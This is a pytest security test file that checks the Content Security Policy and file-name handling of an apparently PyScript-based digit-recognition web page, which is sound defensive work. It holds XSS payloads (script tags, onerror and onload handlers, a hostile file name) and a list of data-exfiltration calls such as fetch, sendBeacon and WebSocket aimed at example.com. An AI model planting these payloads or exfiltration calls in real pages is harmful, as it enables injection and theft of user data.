"""Hostile input stays text or is refused: in the page, in file names, from other sites.

That a visit requests only its own site: test_privacy.py; in three engines: test_engines.py.
Hostile pictures and model files: tests/fuzz.
"""

from html.parser import HTMLParser

import pytest
from conftest import SITE
from support.gestures import open_picture, open_pictures
from support.handwriting import mnist_digits
from support.page_state import remark

POLICY = {
    "default-src": "'self'",
    # PyScript builds functions from text (FUNCTIONS of its own, never of a picture).
    "script-src": "'self' 'unsafe-eval'",
    "worker-src": "'self' blob:",
    "style-src": "'self'",
    "img-src": "'self' data: blob:",
    "connect-src": "'self'",
    "object-src": "'none'",
    "base-uri": "'none'",
    "form-action": "'none'",
}
INTRUSION = "window.intruded = true"
NAME = f'<img src=x onerror="{INTRUSION}"><b>seven.png'
# Ways to send data out of a page, and the policy's directive that blocks each.
WAYS_OUT = {
    "fetch('https://example.com/').catch(() => 0)": "connect-src",
    "navigator.sendBeacon('https://example.com/', 'ink')": "connect-src",
    "new WebSocket('wss://example.com/')": "connect-src",
    "new EventSource('https://example.com/')": "connect-src",
    "new Image().src = 'https://example.com/ink.png'": "img-src",
    "import('https://example.com/ink.js').catch(() => 0)": "script-src-elem",
    "added('script', {src: 'https://example.com/ink.js'})": "script-src-elem",
    "added('link', {rel: 'stylesheet', href: 'https://example.com/ink.css'})": "style-src-elem",
    "added('iframe', {src: 'https://example.com/'})": "frame-src",
    "added('object', {data: 'https://example.com/'})": "object-src",
    "added('video', {src: 'https://example.com/ink.webm'})": "media-src",
}
REFUSED = """async (attempt) => {
    const violation = new Promise(resolve => addEventListener(
        "securitypolicyviolation", event => resolve(event.effectiveDirective), {once: true}));
    const parts = [];
    const added = (name, attributes) => {
        parts.push(Object.assign(document.createElement(name), attributes));
        return document.body.appendChild(parts.at(-1));
    };
    eval(attempt);
    const directive = await violation;
    parts.forEach(part => part.remove());
    return directive;
}"""


class Document(HTMLParser):
    """Policies, inline code and inline styles of an HTML document."""

    def __init__(self):
        super().__init__()
        self.policies, self.inline = [], []

    def handle_starttag(self, tag, attributes):
        attributes = dict(attributes)
        if attributes.get("http-equiv") == "Content-Security-Policy":
            self.policies.append(attributes["content"])
        if tag == "style" or (tag == "script" and "src" not in attributes):
            self.inline.append(tag)
        self.inline += [name for name in attributes if name == "style" or name.startswith("on")]


@pytest.fixture(scope="module")
def document():
    document = Document()
    document.feed((SITE / "index.html").read_text())
    return document


def test_the_policy_allows_the_page_itself_and_nothing_else(document):
    (policy,) = document.policies
    assert dict(part.split(maxsplit=1) for part in policy.split("; ")) == POLICY


def test_the_document_has_no_code_and_no_style_of_its_own(document):
    assert document.inline == []


def test_the_policy_stands_before_anything_that_is_fetched():
    text = (SITE / "index.html").read_text()
    assert text.index("Content-Security-Policy") < min(text.index("<link"), text.index("<script"))


@pytest.mark.parametrize(
    "injected",
    [
        f"<script>{INTRUSION}</script>",
        f'<script type="module">{INTRUSION}</script>',
        f'<img src="data:," onerror="{INTRUSION}">',
        f'<svg onload="{INTRUSION}"></svg>',
        f'<script src="data:text/javascript,{INTRUSION}"></script>',
        f'<iframe srcdoc="<script>parent.{INTRUSION}</script>"></iframe>',
    ],
)
def test_code_that_was_slipped_into_the_document_does_not_run(visit, address, injected):
    def slip(page):
        text = (SITE / "index.html").read_text().replace("<body>", f"<body>{injected}")
        page.route(address, lambda route: route.fulfill(body=text, content_type="text/html"))

    page = visit(slip)
    page.wait_for_function("document.readyState == 'complete'")
    assert page.evaluate("window.intruded") is None
    assert any("Content Security Policy" in line for line in page.log.console)


@pytest.mark.parametrize(("attempt", "directive"), WAYS_OUT.items())
def test_nothing_gets_out_of_the_page(page, attempt, directive):
    assert page.evaluate(REFUSED, attempt) == directive


def test_no_form_gets_out_of_the_page(visit):
    page = visit()  # which waits ever after for where the form would have led
    form = "added('form', {action: 'https://example.com/', method: 'post'}).submit()"
    assert page.evaluate(REFUSED, form) == "form-action"


def test_nothing_gets_out_of_the_worker_either(page, address):
    attempt = "fetch('{}').then(() => 'fetched', () => 'refused')"
    (worker,) = page.workers
    assert worker.evaluate(attempt.format(address)) == "fetched"
    assert worker.evaluate(attempt.format("https://example.com/")) == "refused"


def test_the_name_of_a_file_is_shown_as_text(page, tmp_path):
    bad = tmp_path / NAME
    bad.write_bytes(b"Dear Sir or Madam")
    open_picture(page, bad)
    assert remark(page) != ""
    good = tmp_path / f"{NAME}.png"
    mnist_digits("7").save(good)
    open_pictures(page, [good, bad])
    page.wait_for_function("document.querySelector('#batch-said').textContent", timeout=120_000)
    assert NAME in page.text_content("#batch")
    assert page.query_selector("#batch b") is None and page.query_selector("#remark b") is None
    assert page.evaluate("window.intruded") is None
